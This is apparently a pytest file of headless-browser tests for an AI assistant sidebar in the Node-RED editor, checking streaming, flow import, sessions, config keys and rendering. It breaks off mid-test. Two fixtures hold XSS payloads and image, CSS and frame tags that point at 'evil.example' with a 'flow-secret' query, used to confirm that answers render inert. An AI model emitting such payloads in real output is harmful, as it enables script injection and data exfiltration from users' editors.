"""The AI sidebar tab in a real headless Chromium against a real Node-RED, service and scripted model.

The first test runs against the shared Node-RED without adminAuth. The others use their own stack, the way
issue 7 asks for it: Node-RED with ``adminAuth`` on and ``httpAdminRoot: "/admin"`` (the browser logs in), the
palette package, and the service as a process that the last test stops and starts again.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.health import START_TIMEOUT, stop_process
from tests.support.model_server import Reply, ScriptedModelServer
from tests.support.nodered import (
    NODERED_VERSION,
    PALETTE,
    REPO,
    NodeRed,
    example_flows,
    free_port,
    hash_password,
    project_flows,
)

# One folder per Node-RED version: `make test` runs these tests on 4.1 and on 5.x.
ARTIFACTS = REPO / "test-artifacts" / f"node-red-{NODERED_VERSION}"
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
SERVICE_TOKEN = "browser-test-service-token-0123"
API_KEY = "sk-test-key-for-scripted-server-0001"
USERNAME, PASSWORD = "admin", "admin-password-for-browser-tests"

# `make test-python` (BROWSER_TESTS=optional) needs no browser: without one these tests skip, saying why. Under
# `make test` (which installs Debian's chromium) and in CI a missing browser fails them rather than hiding them.
BROWSER_MISSING = [name for name, found in ((CHROMIUM, os.path.exists(CHROMIUM)), ("node", shutil.which("node")))
                   if not found]
pytestmark = pytest.mark.skipif(bool(BROWSER_MISSING) and os.environ.get("BROWSER_TESTS") == "optional",
                                reason=f"{' and '.join(BROWSER_MISSING)} not installed: `make test-python` runs "
                                       "without a browser; `make test` installs Debian's chromium and runs these")


@pytest.fixture(scope="session", autouse=True)
def browser_installed():
    if BROWSER_MISSING:
        pytest.fail(f"{' and '.join(BROWSER_MISSING)} not installed: `make test` installs Debian's chromium; "
                    "`make test-python` skips the browser tests")


def browser_env(env: dict[str, str]) -> dict[str, str]:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    return {**os.environ, "NODE_PATH": os.environ.get("BROWSER_NODE_PATH", str(PALETTE / "node_modules")),
            "OUT_DIR": str(ARTIFACTS), **env}


def run_browser(script: str, env: dict[str, str]) -> dict:
    completed = subprocess.run(["node", str(REPO / "tests" / "browser" / script)], capture_output=True, text=True,
                               timeout=180, env=browser_env(env))
    assert completed.returncode == 0, completed.stderr
    return json.loads(completed.stdout.strip().splitlines()[-1])


def test_asking_about_the_current_tab_streams_the_answer_into_the_sidebar(nodered, service_process, model):
    tab = next(t for t in nodered.tabs() if len(nodered.nodes_of(t["id"])) >= 3)
    answer = "This flow injects a timestamp every few seconds and shows it in the debug sidebar."
    model.script(Reply(text=answer, token_delay=0.15))

    seen = run_browser("sidebar_chat.js", {"EDITOR_URL": nodered.url, "TAB_ID": tab["id"],
                                           "QUESTION": "explain the current flow", "FINAL_TEXT": "debug sidebar"})

    assert seen["pageErrors"] == [], seen["pageErrors"]
    assert seen["activeTab"] == tab["id"]
    assert answer in seen["finalText"]
    # Text appeared piece by piece while the model was still streaming.
    assert any(0 < len(text) < len(answer) for text in seen["partialTexts"])
    assert seen["toolCards"] >= 1 and seen["errors"] == []
    # Room to read the conversation in the 900 px high window: on Node-RED 5 the tab shares a stacked sidebar with
    # Debug, and its section opened 300 px high, which left the messages about 90 px.
    # The model and the conversation's usage share one line under the header (two lines left 298 px on Node-RED 5).
    assert seen["layout"]["messagesHeight"] >= 300, seen["layout"]
    assert seen["layout"]["answerInView"], seen["layout"]
    # The question went out with the editor's selection: the model saw that tab's nodes.
    prompt = model.requests[-1]["messages"][-1]["content"]
    assert all(node["id"] in prompt for node in nodered.nodes_of(tab["id"]))
    assert os.path.getsize(seen["screenshot"]) > 10_000


class ServiceProcess:
    """The service started as its console script would be, on a fixed port; it can be stopped and restarted."""

    def __init__(self, port: int, nodered_url: str, model_url: str, db_path: Path, log_path: Path) -> None:
        self.port = port
        self.env = {**os.environ, "AI_SIDEBAR_PORT": str(port), "AI_SIDEBAR_TOKEN": SERVICE_TOKEN,
                    "NODE_RED_URL": nodered_url, "OPENAI_BASE_URL": model_url, "OPENAI_API_KEY": API_KEY,
                    "MEMORY_DB_PATH": str(db_path), "MCP_TOOLS_ENABLED": "false",
                    # An ai-config node's MCP server in these tests is on loopback, which the operator must allow.
                    "AI_SIDEBAR_MCP_ALLOWED_HOSTS": "127.0.0.1"}
        self.log_path = log_path
        self.process: subprocess.Popen | None = None

    def start(self) -> None:
        if self.process is not None and self.process.poll() is None:
            return
        with self.log_path.open("ab") as log:
            self.process = subprocess.Popen([sys.executable, "-m", "service"], env=self.env, stdout=log,
                                            stderr=subprocess.STDOUT, cwd=REPO)
        deadline = time.monotonic() + START_TIMEOUT
        while time.monotonic() < deadline:
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{self.port}/healthz", timeout=1)
                return
            except OSError:
                if self.process.poll() is not None:
                    raise RuntimeError(self.log_path.read_text()) from None
                time.sleep(0.2)
        self.stop()
        raise RuntimeError(f"service did not start:\n{self.log_path.read_text()}")

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            stop_process(self.process)
        self.process = None

    def freeze(self) -> None:
        """Stop the service's process (SIGSTOP), as a machine out of memory or a stuck process would: its port still
        accepts connections (the kernel completes them), nothing answers."""
        assert self.process is not None and self.process.poll() is None
        self.process.send_signal(signal.SIGSTOP)

    def thaw(self) -> None:
        """Let a frozen service go on (SIGCONT)."""
        if self.process is not None and self.process.poll() is None:
            self.process.send_signal(signal.SIGCONT)

    def kill(self) -> None:
        """End the service at once (SIGKILL), as a crash would: its streams are cut, nothing shuts down cleanly."""
        if self.process is not None and self.process.poll() is None:
            self.process.kill()
            self.process.wait(10)
        self.process = None


def auth_nodered(workdir: Path, service_port: int, env: dict[str, str] | None = None) -> NodeRed:
    """Node-RED (started) with adminAuth under /admin (USERNAME with every permission), the example and project
    flows and the palette, pointed at a service on ``service_port`` behind SERVICE_TOKEN (``env``: more of its
    environment)."""
    nodered = NodeRed(
        userdir=workdir / "nodered", port=free_port(), admin_root="/admin",
        admin_auth={"type": "credentials",
                    "users": [{"username": USERNAME, "password": hash_password(PASSWORD), "permissions": "*"}]},
        flows=example_flows() + project_flows(),
        env={"AI_SIDEBAR_SERVICE_URL": f"http://127.0.0.1:{service_port}", "AI_SIDEBAR_TOKEN": SERVICE_TOKEN,
             **(env or {})})
    nodered.start()
    return nodered


@contextlib.contextmanager
def running_stack(workdir: Path, model_url: str, without_env: tuple[str, ...] = (),
                  nodered_env: dict[str, str] | None = None) -> Iterator[tuple[NodeRed, Any]]:
    """:func:`auth_nodered` (with ``nodered_env``) and the service behind it (running, on a free port;
    ``without_env``: the environment variables it starts without), both stopped at the end."""
    service_port = free_port()
    nodered = auth_nodered(workdir, service_port, nodered_env)
    service = ServiceProcess(service_port, nodered.url, model_url, workdir / "memory.db", workdir / "service.log")
    for name in without_env:
        service.env.pop(name, None)
    try:
        service.start()
        yield nodered, service
    finally:
        service.stop()
        nodered.stop()


@pytest.fixture(scope="module")
def auth_stack(tmp_path_factory, model_server: ScriptedModelServer):
    """Node-RED with adminAuth under /admin, the palette, and the service (running) behind it."""
    with running_stack(tmp_path_factory.mktemp("browser-auth"), model_server.base_url) as stack:
        yield stack


def run_feature(nodered: NodeRed, mode: str, tab_id: str, **env: str) -> dict[str, Any]:
    result = run_browser("sidebar_features.js", {"EDITOR_URL": nodered.url, "TAB_ID": tab_id, "MODE": mode,
                                                 "USERNAME": USERNAME, "PASSWORD": PASSWORD, **env})
    assert "failure" not in result, result["failure"]
    assert result["pageErrors"] == [], result["pageErrors"]
    for screenshot in result.get("screenshots", []):
        assert os.path.getsize(screenshot) > 10_000, screenshot
    return result


def restart_in_background(service: ServiceProcess) -> Callable[[], None]:
    """Start the service again without waiting for it: the page goes on meanwhile, as a user's would."""
    return lambda: threading.Thread(target=service.start, daemon=True).start()


def tab_named(nodered: NodeRed, label: str) -> dict[str, Any]:
    return next(t for t in nodered.tabs() if t["label"] == label)


def fenced(flow: list[dict[str, Any]]) -> str:
    return "```json\n" + json.dumps(flow, indent=2) + "\n```"


IMPORTED_FLOW = [
    {"id": "ai-inject-1", "type": "inject", "z": "ai-tab", "name": "ai-import-inject", "props": [{"p": "payload"}],
     "repeat": "", "once": False, "topic": "", "payload": "", "payloadType": "date", "x": 140, "y": 80,
     "wires": [["ai-debug-1"]]},
    {"id": "ai-debug-1", "type": "debug", "z": "ai-tab", "name": "ai-import-debug", "active": True,
     "tosidebar": True, "complete": "payload", "targetType": "msg", "x": 360, "y": 80, "wires": []},
]


def test_a_flow_in_an_answer_is_imported_into_the_open_tab_and_one_undo_removes_it(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    model.script(Reply(text="Here is a flow that injects a timestamp and shows it:\n\n" + fenced(IMPORTED_FLOW) +
                       "\n\nImport it and deploy."))

    seen = run_feature(nodered, "import", tab["id"], QUESTION="Give me a flow that shows a timestamp")

    assert (seen["importButtons"], seen["copyButtons"]) == (1, 1)
    before, imported, undone = seen["before"], seen["imported"], seen["undone"]
    assert imported["count"] == before["count"] + 2
    assert sorted(before["names"] + ["ai-import-debug", "ai-import-inject"]) == imported["names"]
    # One history event for the whole import, and placing the nodes with a click added none.
    assert imported["historyDepth"] == before["historyDepth"] + 1
    assert seen["viewState"] == 0
    assert any("Imported 2 nodes" in text for text in seen["notifications"])
    assert undone == before


def test_a_flow_with_a_node_type_that_is_not_installed_is_refused_and_the_type_named(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    flow = [IMPORTED_FLOW[0], {"id": "ai-sensor-1", "type": "zz-weather-sensor", "z": "ai-tab", "x": 250, "y": 80,
                               "wires": [["ai-debug-1"]]}, IMPORTED_FLOW[1]]
    model.script(Reply(text="Use the weather sensor node:\n\n" + fenced(flow)))

    seen = run_feature(nodered, "unknown-types", tab["id"], QUESTION="Read my weather sensor")

    assert any("zz-weather-sensor" in text and "not installed" in text for text in seen["notifications"])
    assert "zz-weather-sensor" in seen["status"]
    assert "inject" not in seen["status"] and "debug" not in seen["status"]
    assert seen["after"] == seen["before"]
    assert seen["unknownNodes"] == 0 and seen["viewState"] == 0


def test_switching_sessions_shows_the_other_conversation_and_the_editor_reopens_it(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    first, second = "explain the current flow", "What does a link node do?"
    first_answer = "The catch node receives the error thrown by the function node."
    second_answer = "A link node connects flows without drawing wires."
    model.script(Reply(text=first_answer), Reply(text=second_answer))

    seen = run_feature(nodered, "sessions", tab["id"], QUESTIONS=json.dumps([first, second]))

    assert seen["afterNewChat"] == []
    assert seen["listed"][:2] == [second, first]
    assert seen["switched"] == [
        {"role": "user", "text": first, "badges": [], "tools": []},
        # As it was shown live: the tool's card (rows stored before answers kept their events show a chip).
        {"role": "assistant", "text": first_answer, "badges": [], "tools": ["get_flow finished"]},
    ]
    assert not seen["drawerOpenAfterSwitch"]
    assert seen["confirmText"] == "Delete this conversation?"
    # Pinned first; earlier tests' conversations of the same user follow.
    assert seen["listedAfterDelete"][0] == "Weather station" and second not in seen["listedAfterDelete"]
    assert seen["pinnedRows"] == ["Weather station"]
    assert seen["reloaded"] == seen["switched"]
    assert "Weather station" in seen["reloadedHeader"]


XSS_ANSWER = (
    "Here is some markup: <img src=x onerror=\"window.__aiSidebarXss='img'\"> and a "
    "[harmless link](javascript:window.__aiSidebarXss='markdown-link') and "
    "<a href=\"javascript:window.__aiSidebarXss='anchor'\">click me</a>.\n\n"
    "<script>window.__aiSidebarXss='script'</script>\n\n"
    "<svg onload=\"window.__aiSidebarXss='svg'\"></svg>"
    "<iframe src=\"javascript:window.__aiSidebarXss='iframe'\"></iframe>\n\nThe end."
)


def test_html_and_script_in_an_answer_render_inert(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    model.script(Reply(text=XSS_ANSWER))

    seen = run_feature(nodered, "inert-html", tab["id"], QUESTION="Show me some HTML")

    for moment in ("live", "afterClicks", "reloaded"):
        check = seen[moment]
        assert check["flag"] is None, moment
        assert (check["scripts"], check["eventAttributes"], check["javascriptUrls"], check["iframes"]) == (0, 0, 0, 0)
        assert not check["hasOnerrorText"], moment
        assert "The end." in check["text"] and "click me" in check["text"]
    assert seen["dialogs"] == []


EXFIL_MARKER = "ai-exfil-7f3c"
REMOTE_CONTENT_ANSWER = (
    f"Here is the chart: ![sales chart](https://evil.example/{EXFIL_MARKER}-markdown?q=flow-secret)\n\n"
    f"<img src=\"{EXFIL_MARKER}-relative\"> <img src=\"https://evil.example/{EXFIL_MARKER}-img\" alt=\"raw\">\n\n"
    f"<picture><source srcset=\"https://evil.example/{EXFIL_MARKER}-srcset\"><img src=\"https://evil.example/{EXFIL_MARKER}-picture\">"
    "</picture>\n\n"
    f"<video src=\"https://evil.example/{EXFIL_MARKER}-video\" poster=\"https://evil.example/{EXFIL_MARKER}-poster\"></video>"
    f"<audio src=\"https://evil.example/{EXFIL_MARKER}-audio\"></audio>\n\n"
    f"<link rel=\"stylesheet\" href=\"https://evil.example/{EXFIL_MARKER}-link.css\">"
    f"<style>@import url(\"https://evil.example/{EXFIL_MARKER}-import.css\"); "
    f"p {{ background: url(https://evil.example/{EXFIL_MARKER}-css) }}"
    "</style>\n\n"
    f"<div style=\"background-image:url(https://evil.example/{EXFIL_MARKER}-style)\">styled text</div>\n\n"
    f"<table background=\"https://evil.example/{EXFIL_MARKER}-table\"><tr><td>cell text</td></tr></table>\n\n"
    f"<object data=\"https://evil.example/{EXFIL_MARKER}-object\"></object><embed src=\"https://evil.example/{EXFIL_MARKER}-embed\">"
    f"<iframe src=\"https://evil.example/{EXFIL_MARKER}-iframe\"></iframe>"
    f"<input type=\"image\" src=\"https://evil.example/{EXFIL_MARKER}-input\">"
    f"<svg><image href=\"https://evil.example/{EXFIL_MARKER}-svg\"></image></svg>\n\n"
    "Read [the docs](https://nodered.org/docs/) or [mail us](mailto:team@example.com), "
    f"not [this one](ftp://example.com/{EXFIL_MARKER}-ftp) nor [that one]({EXFIL_MARKER}-relative-link).\n\nThe end."
)


def test_an_answer_loads_no_image_media_style_or_frame_live_or_reloaded(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    model.script(Reply(text=REMOTE_CONTENT_ANSWER))

    seen = run_feature(nodered, "remote-content", tab["id"], QUESTION="Show me a chart of the sales",
                       MARKER=EXFIL_MARKER)

    # Nothing in the answer was fetched, on any page of the browser.
    assert seen["requested"] == []
    for moment in ("live", "reloaded"):
        check = seen[moment]
        assert (check["loaders"], check["loadingAttributes"], check["backgrounds"], check["resources"]) == \
            ([], [], [], []), moment
        assert "[image: sales chart]" in check["text"] and "The end." in check["text"], moment
        assert "styled text" in check["text"] and "cell text" in check["text"], moment
        links = {link["text"]: link for link in check["links"]}
        # The image is a link the user may follow, not a fetch.
        assert links["[image: sales chart]"]["href"].startswith("https://evil.example/"), moment
        assert links["the docs"]["href"] == "https://nodered.org/docs/"
        assert links["mail us"]["href"] == "mailto:team@example.com"
        # Links anywhere but the web and e-mail show as their text.
        assert "not this one nor that one." in check["text"] and "this one" not in links and "that one" not in links
        for link in check["links"]:
            assert (link["target"], link["rel"]) == ("_blank", "noopener noreferrer"), link
            assert link["href"].startswith(("https://", "http://", "mailto:")), link
    # Node-RED's own 401 for /settings before the login is no concern of the sidebar's.
    assert [error for error in seen["consoleErrors"] if EXFIL_MARKER in error["url"] + error["text"]] == []


def test_the_shortcuts_open_the_tab_and_explain_the_selected_nodes(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    model.script(Reply(text="The inject node starts the flow and the function node throws an error."))

    seen = run_feature(nodered, "explain", tab["id"])

    assert seen["sharedKeys"] == []
    assert (seen["visibleBefore"], seen["visibleAfterOpen"], seen["visibleAfterExplain"]) == (False, True, True)
    assert seen["actionLabels"] == ["Open AI assistant", "Explain selection with the AI assistant"]
    assert seen["transcript"][0] == {"role": "user", "text": "Explain the selected nodes", "badges": [], "tools": []}
    assert seen["toolCards"] == ["get_node_info finished"]
    prompt = json.dumps(model.requests[-1]["messages"])
    assert len(seen["selected"]) == 2 and all(node_id in prompt for node_id in seen["selected"])


def test_the_open_tab_goes_out_as_edited_without_credentials_and_the_context_chip_can_be_removed(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "Sensor telemetry")
    broker = next(n for n in nodered.flows if n["type"] == "mqtt-broker")
    secret = "s3cret-mqtt-password-in-the-editor"
    model.script(Reply(text="It reads sensor readings from MQTT."), Reply(text="msg.payload is the message body."))

    seen = run_feature(nodered, "context", tab["id"], SECRET=secret,
                       QUESTIONS=json.dumps(["explain the current flow", "what is msg.payload?"]))

    assert seen["secretSet"]
    with_context, without_context = seen["bodies"]
    flow_data = with_context["flowData"]
    assert flow_data[0] == {**flow_data[0], "id": tab["id"], "type": "tab"}
    sent_ids = {node["id"] for node in flow_data}
    assert {n["id"] for n in nodered.nodes_of(tab["id"])} | {broker["id"]} <= sent_ids
    assert next(n for n in flow_data if n["id"] == seen["renamed"])["name"] == "renamed-in-editor-only"
    assert secret not in json.dumps(with_context) and "credentials" not in json.dumps(flow_data)
    # The service answered from the editor's version: the model saw the undeployed name.
    assert "renamed-in-editor-only" in json.dumps(model.requests[0]["messages"])

    assert seen["chipRemoved"] == "No flow context"
    assert without_context["selectedFlow"] is None and without_context["selectedNodes"] == []
    assert "flowData" not in without_context
    assert seen["chipAfterSend"] == "No flow context"
    # The selected node has a chip of its own (node-chips.js): the context chip names the flow without counting it.
    assert seen["chipAfterSelection"].startswith("Flow: ") and "selected" not in seen["chipAfterSelection"]


def run_feature_in_stages(nodered: NodeRed, mode: str, tab_id: str, on_stage: dict[str, Callable[[], None]],
                          **env: str) -> dict[str, Any]:
    """Run a browser feature that pauses at named stages (progress lines on stdout) for the test to act."""
    process = subprocess.Popen(["node", str(REPO / "tests" / "browser" / "sidebar_features.js")],
                               env=browser_env({"EDITOR_URL": nodered.url, "TAB_ID": tab_id, "MODE": mode,
                                                "USERNAME": USERNAME, "PASSWORD": PASSWORD, **env}),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    lines: list[str] = []
    try:
        for line in process.stdout:
            lines.append(line)
            stage = json.loads(line).get("stage")
            if stage is None:
                break
            on_stage[stage]()
        rest, errors = process.communicate(timeout=120)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 0, errors
    result = json.loads((rest or lines[-1]).strip().splitlines()[-1])
    assert "failure" not in result, result["failure"]
    assert result["pageErrors"] == [], result["pageErrors"]
    for screenshot in result.get("screenshots", []):
        assert os.path.getsize(screenshot) > 10_000, screenshot
    return result


def admin_token(nodered: NodeRed) -> str:
    form = urllib.parse.urlencode({"client_id": "node-red-admin", "grant_type": "password", "scope": "*",
                                   "username": USERNAME, "password": PASSWORD}).encode()
    with urllib.request.urlopen(f"{nodered.url}/auth/token", data=form, timeout=10) as response:
        return json.loads(response.read())["access_token"]


def admin_request(nodered: NodeRed, token: str, method: str, path: str, body: Any = None,
                  headers: dict[str, str] | None = None) -> Any:
    request = urllib.request.Request(f"{nodered.url}{path}", method=method,
                                     data=None if body is None else json.dumps(body).encode(),
                                     headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json",
                                              **(headers or {})})
    with urllib.request.urlopen(request, timeout=10) as response:
        text = response.read()
        return json.loads(text) if text else None


def deploy(nodered: NodeRed, token: str, flows: list[dict[str, Any]]) -> None:
    """Deploy through the Admin API as the editor does, and wait until the ai-config nodes among them run."""
    admin_request(nodered, token, "POST", "/flows", flows, {"Node-RED-Deployment-Type": "full"})
    wanted = sorted(n["id"] for n in flows if n.get("type") == "ai-config")
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        # Node-RED answers the deploy before the new flows have started; the picker's route lists running nodes.
        if sorted(c["id"] for c in admin_request(nodered, token, "GET", "/ai-sidebar/configs")) == wanted:
            return
        time.sleep(0.2)
    raise AssertionError(f"the ai-config nodes {wanted} did not start:\n{nodered.log_tail()}")


CONFIG_KEYS = {"alpha": "sk-ai-config-alpha-browser-5c1e9a7d30", "beta": "sk-ai-config-beta-browser-8f2b4d6011"}
CONFIG_IDS = {"alpha": "a1c0f19a1fa00001", "beta": "a1c0f19be7a00002"}
CONFIG_NAMES = {"alpha": "Team Alpha", "beta": "Team Beta"}


def ai_config(which: str, base_url: str) -> dict[str, Any]:
    return {"id": CONFIG_IDS[which], "type": "ai-config", "name": CONFIG_NAMES[which], "provider": "openai-compatible",
            "model": f"scripted-{which}", "baseUrl": base_url, "temperature": "", "maxTokens": "", "memory": True,
            "tools": True, "scenarios": "", "credentials": {"apiKey": CONFIG_KEYS[which]}}


@pytest.fixture
def two_ai_configs(auth_stack, model_server):
    """Two ai-config nodes with keys, deployed through the Admin API; the original flows are deployed again after."""
    nodered, _ = auth_stack
    token = admin_token(nodered)
    original = admin_request(nodered, token, "GET", "/flows")
    configs = [ai_config("alpha", model_server.base_url), ai_config("beta", model_server.base_url)]
    deploy(nodered, token, original + configs)
    try:
        yield token, original, configs
    finally:
        deploy(nodered, token, original)


def test_the_chosen_ai_config_node_answers_and_its_key_never_reaches_the_browser(auth_stack, two_ai_configs, model):
    nodered, _ = auth_stack
    token, original, configs = two_ai_configs
    tab = tab_named(nodered, "01 - Catch error")
    model.script(Reply(text="Answered with the Team Beta configuration."),
                 Reply(text="Answered with the service default."))
    alpha_without_key = {key: value for key, value in configs[0].items() if key != "credentials"}

    # A node of a type Node-RED does not have: it saves the flows and runs none of them ("missing-types").
    unknown = {"id": "ffff0000000000e1", "type": "no-such-node-type", "z": tab["id"], "x": 100, "y": 400,
               "wires": []}
    without_keys = [{key: value for key, value in config.items() if key != "credentials"} for config in configs]

    seen = run_feature_in_stages(
        nodered, "configs", tab["id"],
        {"stopped": lambda: admin_request(nodered, token, "POST", "/flows", original + without_keys + [unknown],
                                          {"Node-RED-Deployment-Type": "full"}),
         "restarted": lambda: deploy(nodered, token, original + without_keys),
         # Team Beta goes away; Team Alpha stays, its key kept by Node-RED's credential store.
         "chosen": lambda: deploy(nodered, token, original + [alpha_without_key])},
        CONFIG_IDS=json.dumps(CONFIG_IDS), SECRETS=json.dumps(list(CONFIG_KEYS.values())),
        QUESTIONS=json.dumps(["which model answers?", "and now?"]))

    assert seen["listed"]["options"] == [
        {"value": "", "text": "Service default"},
        {"value": CONFIG_IDS["alpha"], "text": "Team Alpha (openai-compatible/scripted-alpha)"},
        {"value": CONFIG_IDS["beta"], "text": "Team Beta (openai-compatible/scripted-beta)"},
    ]
    assert seen["listed"]["selected"] == "" and seen["listed"]["note"] is None
    assert seen["chosen"]["title"] == "AI configuration: Team Beta (openai-compatible/scripted-beta)"
    # The chosen node's model and key reached the model; the browser sent only the node's id.
    assert "Team Beta configuration" in seen["answerWithConfig"]
    assert model.requests[0]["model"] == "scripted-beta"
    assert model.headers[0]["Authorization"] == f"Bearer {CONFIG_KEYS['beta']}"
    with_config, with_default = seen["bodies"]
    assert with_config["configId"] == CONFIG_IDS["beta"] and "provider" not in with_config
    # The choice is remembered for the user, and kept when the chosen node is edited and deployed from the editor.
    assert seen["reloaded"]["selected"] == CONFIG_IDS["beta"]
    assert [(state["selected"], state["note"]) for state in seen["redeployed"]] == [(CONFIG_IDS["beta"], None)] * 3
    # An editor opened while the runtime runs no flow (a missing node type) keeps it, shown as not running; once the
    # flows run again it is listed as before.
    stopped = seen["whileStopped"]
    assert stopped["selected"] == CONFIG_IDS["beta"] and stopped["note"] is None
    assert {"value": CONFIG_IDS["beta"], "text": "Team Beta (openai-compatible/scripted-beta) (not running)"} in \
        stopped["options"], stopped["options"]
    assert seen["afterRestart"]["selected"] == CONFIG_IDS["beta"] and seen["afterRestart"]["note"] is None

    # Deploying the flows without Team Beta falls back to the service default and says so.
    after = seen["afterRemoval"]
    assert [option["value"] for option in after["options"]] == ["", CONFIG_IDS["alpha"]]
    assert after["selected"] == "" and "no longer deployed" in after["note"]
    assert "configId" not in with_default
    assert "service default" in seen["answerWithDefault"]
    assert model.requests[-1]["model"] not in ("scripted-alpha", "scripted-beta")
    assert model.headers[-1]["Authorization"] == f"Bearer {API_KEY}"
    assert seen["afterDefaultAnswer"]["selected"] == ""

    secrets = seen["secrets"]
    assert secrets["found"] == {"html": [], "localStorage": [], "responses": [], "frames": []}
    assert secrets["allResponsesSettled"] and secrets["responsesUnread"] == []
    read = [urllib.parse.urlsplit(url).path for url in secrets["responsesRead"]]
    assert "/admin/ai-sidebar/configs" in read and read.count("/admin/ai-sidebar/stream-chat") == 2
    # The editor's own flows (ai-config nodes included) and its runtime notifications were read too.
    assert "/admin/flows" in read and secrets["frames"] > 0


HIGHLIGHTED_SCRIPT = (
    "// Convert Fahrenheit to Celsius\n"
    "const label = \"<img src=x onerror=window.__aiSidebarXss='code'>\";\n"
    "msg.payload = (msg.payload - 32) * 5 / 9;\n"
    "return msg;"
)


def test_code_blocks_in_an_answer_are_highlighted_and_the_flow_block_keeps_import_and_copy(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    answer = ("Import this flow:\n\n" + fenced(IMPORTED_FLOW) + "\n\nThen put this in the function node:\n\n"
              "```javascript\n" + HIGHLIGHTED_SCRIPT + "\n```\n\nDeploy, and the debug sidebar shows the result.")
    # Streamed a line at a time, slowly enough to see the first block highlighted before the answer ends.
    model.script(Reply(text=answer, chunks=[line + "\n" for line in answer.split("\n")], token_delay=0.08))

    seen = run_feature(nodered, "highlight", tab["id"], QUESTION="Give me a flow and a function")

    assert seen["whileStreaming"] is not None
    for moment in ("live", "reloaded"):
        flow_block, script_block = seen[moment]
        assert flow_block["highlighted"] and flow_block["language"] == "json", moment
        assert {"hljs-attr", "hljs-string", "hljs-number", "hljs-punctuation"} <= set(flow_block["classes"])
        assert json.loads(flow_block["text"]) == IMPORTED_FLOW
        assert flow_block["buttons"] == ["Import", "Copy", "Show"]  # collapsed by default (issue 31)
        assert script_block["highlighted"] and script_block["language"] == "javascript", moment
        assert {"hljs-comment", "hljs-keyword", "hljs-string", "hljs-property"} <= set(script_block["classes"])
        assert script_block["text"].rstrip("\n") == HIGHLIGHTED_SCRIPT
        assert script_block["buttons"] == ["Put into function node", "Copy"]
        # Only spans came out of the highlighter: the <img> in the code stayed text.
        assert flow_block["otherElements"] == script_block["otherElements"] == 0
        # Strings in Monaco's light colour, as in the editor's own code editor.
        assert script_block["color"] == "rgb(163, 21, 21)"
    assert seen["flag"] is None and seen["flagLive"] is None
    assert json.loads(seen["copied"]) == IMPORTED_FLOW
    assert seen["imported"]["count"] == seen["before"]["count"] + 2
    assert seen["undone"] == seen["before"]


NEW_FUNCTION_CODE = (
    "// Decode the received bytes as UTF-8 text\n"
    "msg.payload = msg.payload.toString(\"utf8\");\n"
    "return msg;"
)
BROKEN_FLOW = ('[\n  {"id": "n1", "type": "inject", "z": "t1", "wires": [["n2"]]},\n'
               '  {"id": "n2", "type": "debug", "z": "t1", "wires": []},\n]')


def test_every_code_block_has_a_label_and_copy_and_javascript_goes_into_the_selected_function_node(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "03 - Send reply to client of TCP connection")
    function = next(n for n in nodered.nodes_of(tab["id"]) if n["type"] == "function")
    answer = ("Put this into your function node:\n\n```javascript\n" + NEW_FUNCTION_CODE + "\n```\n\n"
              "The flow:\n\n```json\n" + BROKEN_FLOW + "\n```\n\nOr in Python:\n\n```python\n"
              "print(data.decode('utf-8'))\n```\n\nA payload looks like `{}`:\n\n```json\n"
              '{"payload": "hello"}\n```')
    model.script(Reply(text=answer))

    seen = run_feature(nodered, "code-blocks", tab["id"], QUESTION="Decode the TCP bytes as text",
                       FUNCTION_ID=function["id"], NARROW_WIDTH="240")

    javascript, broken, python, payload = seen["blocks"]
    assert (javascript["kind"], javascript["label"]) == ("javascript", "javascript")
    assert javascript["buttons"] == ["Put into function node", "Copy"]
    assert (broken["kind"], broken["label"], broken["buttons"]) == ("invalidFlow", "json", ["Copy"])
    assert broken["note"].startswith("This looks like a Node-RED flow but cannot be imported: it is not valid JSON (")
    assert (python["kind"], python["label"], python["buttons"], python["note"]) == ("code", "python", ["Copy"], None)
    assert (payload["kind"], payload["buttons"], payload["note"]) == ("code", ["Copy"], None)
    assert seen["noSelection"] == "Select one function node in the workspace first, then try again."
    assert seen["copied"].rstrip("\n") == NEW_FUNCTION_CODE
    # The diff is shown first and changes nothing until the user confirms.
    before = seen["before"]
    assert before["func"] == function["func"]
    dialog = seen["dialog"]
    assert function["name"] in dialog["intro"]
    assert dialog["removed"] == ["- " + line for line in function["func"].split("\n") if line != "return msg;"]
    assert dialog["added"] == ["+ " + line for line in NEW_FUNCTION_CODE.split("\n") if line != "return msg;"]
    assert dialog["same"] == ["  return msg;"]
    assert dialog["summary"] == "Lines added: 2, lines removed: 1"
    assert seen["unchangedWhileShown"] == before
    applied = seen["applied"]
    assert applied["func"] == NEW_FUNCTION_CODE and applied["changed"] and applied["dirty"]
    assert applied["historyDepth"] == before["historyDepth"] + 1
    assert seen["undone"] == before
    # With a narrow sidebar the bars wrap: every button stays inside it.
    assert seen["narrowWidth"] <= 260
    assert all(block["buttonsInside"] for block in seen["blocks"] + seen["narrowBlocks"])


def test_the_tab_says_when_the_service_is_down_and_recovers_when_it_is_back(auth_stack, model):
    nodered, service = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    answer = "The service is back and answering."
    model.script(Reply(text=answer))
    service.stop()
    try:
        # The script says "offline" once it has seen the warning; then the service comes back.
